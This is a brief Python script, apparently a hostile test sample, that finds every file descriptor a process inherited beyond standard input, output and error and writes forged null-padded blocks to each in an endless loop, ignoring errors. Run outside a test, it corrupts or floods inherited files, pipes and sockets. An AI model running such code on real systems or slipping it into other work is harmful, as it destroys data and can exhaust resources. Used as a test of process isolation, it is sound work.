"""Write without end to all that was inherited besides the three streams."""

import os

inherited = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
block = b"\0forged" * 20_000
while True:
    for descriptor in inherited:
        try:
            os.write(descriptor, block)
        except OSError:
            pass
